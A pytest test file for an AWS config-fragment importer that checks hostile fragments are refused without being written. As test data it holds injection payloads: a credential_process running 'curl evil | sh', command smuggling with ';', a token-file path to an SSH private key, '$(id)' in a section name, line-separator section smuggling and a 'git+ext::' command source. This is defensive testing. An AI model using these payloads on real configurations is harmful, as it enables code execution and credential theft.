"""Hostile fragments and clashing names: refused with one line naming the key and the
section, or skipped with a note; nothing written on a refusal, and what is written is exactly
what botocore then reads."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import write_config
from tests.team.helpers import FRAGMENT, HAND, block_of, botocore_config, team

PROFILE = "[profile p]\nsso_session = corp\nsso_account_id = 111111111111\nsso_role_name = R\n"
SESSION = "[sso-session corp]\nsso_start_url = https://corp.awsapps.com/start\n" \
          "sso_region = eu-west-1\n"


def refused(home: Path, text: str | bytes, *needles: str) -> str:
    """Add `text` as a fragment: exit 1 (or 2), one line on stderr holding every needle,
    the config byte for byte as it was."""
    config = write_config(home, HAND)
    before = config.read_bytes()
    source = home / "bad.config"
    if isinstance(text, str):
        text = text.encode("utf-8")
    source.write_bytes(text)
    out = team("add", str(source))
    assert out.returncode != 0, out.stdout
    lines = out.stderr.strip().splitlines()
    assert len(lines) == 1, out.stderr
    for needle in needles:
        assert needle in lines[0], lines[0]
    assert "\x1b" not in out.stderr and "\u2028" not in out.stderr
    assert config.read_bytes() == before
    assert not list(config.parent.glob("*.bak"))
    return lines[0]


@pytest.mark.parametrize("key,value", [
    ("credential_process", "/bin/sh -c 'curl evil | sh'"),
    ("credential_source", "/bin/sh"),
    ("credential_source", "Environment; curl evil"),
    ("endpoint_url", "https://evil.example.com"),
    ("services", "evil"),
    ("ignore_configured_endpoint_urls", "true"),
    ("aws_access_key_id", "AKIAIOSFODNN7EXAMPLE"),
    ("aws_secret_access_key", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
    ("aws_session_token", "FwoGZXIvYXdzEXAMPLETOKEN"),
    ("web_identity_token_file", "/home/u/.ssh/id_rsa"),
    ("ca_bundle", "/tmp/evil.pem"),
    ("cli_pager", "sh -c evil"),
    ("sso_account_id", "1111"),
    ("region", "eu-west-1 evil"),
    ("role_arn", "arn:aws:iam::222222222222:user/x"),
    ("sso_start_url", "http://corp.awsapps.com/start"),
    ("duration_seconds", "1h"),
    ("unknown_key", "xyzzy"),
])
def test_every_refused_key_names_key_and_profile(home: Path, key: str, value: str) -> None:
    line = refused(home, SESSION + PROFILE + f"{key} = {value}\n", f"'{key}'", "[profile p]")
    assert value not in line  # a value is never shown: it may be a secret or escapes


@pytest.mark.parametrize("key", ["sso_account_id", "credential_process", "region"])
def test_a_session_takes_session_keys_only(home: Path, key: str) -> None:
    refused(home, SESSION + f"{key} = x\n", f"'{key}'", "[sso-session corp]")


def test_credential_source_names_a_provider_not_a_command(home: Path) -> None:
    write_config(home, HAND)
    source = home / "ok.config"
    source.write_text("[profile ops]\nrole_arn = arn:aws:iam::222222222222:role/Ops\n"
                      "credential_source = Environment\n")
    out = team("add", str(source))
    assert out.returncode == 0, out.stderr
    assert botocore_config()["profiles"]["ops"]["credential_source"] == "Environment"


@pytest.mark.parametrize("section,why", [
    ("default", "default profile"),
    ("DEFAULT", "only [profile X]"),
    ("profile default", "'default'"),
    ("services evil", "only [profile X]"),
    ("plugins", "only [profile X]"),
    ("preview", "only [profile X]"),
    ("profile a b", "only [profile X]"),
    ("profile  p2", "only [profile X]"),
    ("profile 'p2'", "characters"),
    ("profile p$(id)", "characters"),
    ("profile p;x", "characters"),
    ("sso-session corp other", "only [profile X]"),
    ("profilex p2", "only [profile X]"),
])
def test_sections_other_than_profiles_and_sessions_are_refused(home: Path, section: str,
                                                               why: str) -> None:
    refused(home, SESSION + PROFILE + f"[{section}]\nregion = eu-west-1\n", "line 8", why)


@pytest.mark.parametrize("marker", [
    "# shellsso team end: bad",
    "# shellsso team begin: other",
    "; shellsso populate begin: corp",
    "#shellsso populate end: corp",
])
def test_marker_comments_are_refused(home: Path, marker: str) -> None:
    refused(home, SESSION + marker + "\n" + PROFILE, "line 4", "marker")


@pytest.mark.parametrize("sep", ["\u2028", "\u2029", "\u0085", "\x0b", "\x0c", "\x1c", "\x1e",
                                 "\x1b[2J", "\t"])
def test_line_breaks_botocore_does_not_see_are_one_refused_value(home: Path, sep: str) -> None:
    """What str.splitlines breaks on stays inside a line for botocore: the value holds it, and
    such a value is refused, never an extra section."""
    text = SESSION + PROFILE + f"region = eu-west-1{sep}[profile evil]{sep}" \
        "credential_process = /bin/evil\n"
    refused(home, text, "[profile p]", "'region'")


def test_a_bare_carriage_return_ends_a_line_for_botocore_too(home: Path) -> None:
    text = SESSION + PROFILE + "region = eu-west-1\r[profile evil]\rcredential_process = x\n"
    refused(home, text, "[profile evil]", "'credential_process'")


@pytest.mark.parametrize("text,needle", [
    (SESSION + PROFILE + "s3 =\n  max_concurrent_requests = 10\n", "'s3'"),
    (SESSION + PROFILE + "region =\n  us-east-1\n", "nested block"),
    (SESSION + PROFILE + "region =\n", "no value"),
    (SESSION + PROFILE + "region = eu-west-1\n  credential_process = x\n", "more than one line"),
    (SESSION + PROFILE + "region = eu-west-1\n   [profile evil]\n", "more than one line"),
    ("region = eu-west-1\n" + SESSION, "before any [section]"),
    (SESSION + "[profile p]\nregion = eu-west-1\n[profile p]\nregion = us-east-1\n",
     "appears twice"),
    (SESSION + PROFILE + "this is not a key\n", "expected 'key = value'"),
])
def test_nested_and_continued_values_are_refused(home: Path, text: str, needle: str) -> None:
    refused(home, text, needle)


def test_references_stay_inside_the_fragment(home: Path) -> None:
    refused(home, PROFILE.replace("corp", "mine"), "sso_session = mine", "no other sso-session")
    refused(home, SESSION + "[profile q]\nrole_arn = arn:aws:iam::222222222222:role/X\n"
            "source_profile = mine\n", "source_profile = mine", "no other profile")


def test_a_huge_or_binary_fragment_is_refused(home: Path) -> None:
    big = SESSION + PROFILE + "".join(f"# {'x' * 100}\n" for _ in range(3000))
    refused(home, big, "larger than 256 KB")
    refused(home, SESSION.encode() + b"\xff\xfe\n", "not UTF-8")
    refused(home, "# only a comment\n", "no [profile X]")


def test_a_fifo_is_not_waited_for(home: Path) -> None:
    import os

    fifo = home / "fifo.config"
    os.mkfifo(fifo)
    out = team("add", str(fifo))
    assert out.returncode == 1 and "not a regular file" in out.stderr


# --- names that clash ------------------------------------------------------------------------


def test_a_name_of_the_config_is_skipped_with_a_note(home: Path) -> None:
    config = write_config(home, HAND + "\n[profile corp-dev]\nregion = ap-south-1\n")
    before = config.read_bytes()
    source = home / "platform.config"
    source.write_text(FRAGMENT)
    out = team("add", str(source))
    assert out.returncode == 0, out.stderr
    assert "note: profile corp-dev skipped: a profile of that name exists outside the team " \
        "block" in out.stdout
    # corp-deploy would assume its role with the user's own corp-dev: skipped too
    assert "note: profile corp-deploy skipped: its source_profile corp-dev was skipped" \
        in out.stdout
    assert "1 to add, 0 to change, 0 to remove, 0 unchanged" in out.stdout
    assert config.read_bytes().startswith(before)
    seen = botocore_config()
    assert seen["profiles"]["corp-dev"] == {"region": "ap-south-1"}
    assert "corp-deploy" not in seen["profiles"]
    assert "corp" in seen["sessions"]


@pytest.mark.parametrize("where", ["home", "variable"])
def test_a_name_of_the_credentials_file_is_skipped(home: Path, where: str,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    credentials = home / ".aws" / "credentials" if where == "home" else home / "creds"
    credentials.parent.mkdir(exist_ok=True)
    keys = "[corp-dev]\naws_access_key_id = AKIAEXAMPLE\naws_secret_access_key = SECRET\n"
    credentials.write_text(keys)
    if where == "variable":
        monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(credentials))
    source = home / "platform.config"
    source.write_text(FRAGMENT)
    out = team("add", str(source))
    assert out.returncode == 0, out.stderr
    assert f"note: profile corp-dev skipped: a profile of that name exists in {credentials}" \
        in out.stdout
    assert "SECRET" not in out.stdout + out.stderr
    assert credentials.read_text() == keys
    config = (home / ".aws" / "config").read_text()
    assert "[profile corp-dev]" not in config and "[profile corp-deploy]" not in config
    assert "[sso-session corp]" in config


def test_a_session_of_the_config_with_the_same_portal_is_used(home: Path) -> None:
    mine = "[sso-session corp]\nsso_start_url = https://corp.awsapps.com/start\n" \
           "sso_region = eu-west-1\n"
    config = write_config(home, mine)
    source = home / "platform.config"
    source.write_text(FRAGMENT)
    out = team("add", str(source))
    assert out.returncode == 0, out.stderr
    assert "note: [sso-session corp] is already in" in out.stdout
    assert "same start URL and region" in out.stdout
    text = config.read_text()
    assert text.startswith(mine) and text.count("[sso-session corp]") == 1
    assert "[sso-session" not in block_of(text, "platform")
    assert botocore_config()["profiles"]["corp-dev"]["sso_session"] == "corp"


def test_a_session_of_the_config_with_another_portal_refuses_the_fragment(home: Path) -> None:
    mine = "[sso-session corp]\nsso_start_url = https://elsewhere.awsapps.com/start\n" \
           "sso_region = eu-west-1\n"
    config = write_config(home, mine)
    source = home / "platform.config"
    source.write_text(FRAGMENT)
    out = team("add", str(source))
    assert out.returncode == 1
    assert "[sso-session corp] is already in" in out.stderr
    assert "another start URL or region" in out.stderr and "nothing was written" in out.stderr
    assert config.read_text() == mine


def test_a_hand_edited_source_line_is_checked_again(home: Path) -> None:
    config = write_config(home, HAND)
    source = home / "platform.config"
    source.write_text(FRAGMENT)
    assert team("add", str(source)).returncode == 0
    text = config.read_text().replace(f"# source: {source}", "# source: git+ext::touch PWNED#x")
    config.write_text(text)
    out = team("sync")
    assert out.returncode == 1
    assert "team platform:" in out.stderr and "ext::" in out.stderr
    assert "block is kept" in out.stderr
    assert config.read_text() == text
    assert not (home / "PWNED").exists()


def test_a_broken_block_is_refused(home: Path) -> None:
    config = write_config(home, HAND)
    source = home / "platform.config"
    source.write_text(FRAGMENT)
    assert team("add", str(source)).returncode == 0
    text = config.read_text().replace("# shellsso team end: platform\n", "")
    config.write_text(text)
    for args in (("sync",), ("remove", "platform"), ("list",)):
        out = team(*args)
        assert out.returncode == 1, args
        assert "must appear once each" in out.stderr
    assert config.read_text() == text


def test_a_source_cannot_break_out_of_its_comment(home: Path) -> None:
    config = write_config(home, HAND)
    for name in ("a\u2028[profile evil]\u2028credential_process = x.config",
                 "a\n[profile evil]\ncredential_process = x.config", "a\x1b[2J.config",
                 "a\r[default].config"):
        path = home / name
        path.write_text(FRAGMENT)
        out = team("add", str(path), "--name", "x")
        assert out.returncode == 2, repr(name)
        assert "not one line of printable text" in out.stderr
        assert "\x1b" not in out.stderr and "\u2028" not in out.stderr
        assert config.read_bytes() == HAND.encode()
    odd = home / "team [x] ; y.config"
    odd.write_text(FRAGMENT)
    unnamed = team("add", str(odd))
    assert unnamed.returncode == 2 and "choose one with --name" in unnamed.stderr
    assert team("add", str(odd), "--name", "odd").returncode == 0
    assert f"# source: {odd}\n" in config.read_text()
    seen = botocore_config()
    assert set(seen["profiles"]) == {"mine", "other", "corp-dev", "corp-deploy"}
    assert set(seen["sessions"]) == {"corp"}
    listed = team("list", "--json")
    assert f'"source": "{odd}"' in listed.stdout
